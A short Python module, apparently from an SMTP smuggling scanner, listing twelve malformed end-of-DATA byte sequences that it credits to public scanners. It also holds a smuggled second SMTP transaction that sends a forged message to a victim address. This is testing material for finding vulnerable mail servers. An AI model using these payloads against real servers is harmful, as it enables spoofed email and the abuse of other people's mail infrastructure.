"""Ends of DATA that some server takes for one and that are none: what both public scanners try.

hannob/smtpsmug has the first ten, SEC Consult's scanner of outbound servers the last.
"""

NOT_THE_END: tuple[bytes, ...] = (
    b"\n.\n",
    b"\r.\r",
    b"\r.\n",
    b"\n.\r",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\r\r\n.\r\r\n",
    b"\r\n.\r\r\n",
)
SECOND = (
    b"MAIL FROM:<evil@shop.example>\r\nRCPT TO:<victim@far.example>\r\nDATA\r\n"
    b"From: evil@shop.example\r\nSubject: smuggled\r\n\r\nbad\r\n.\r\n"
)
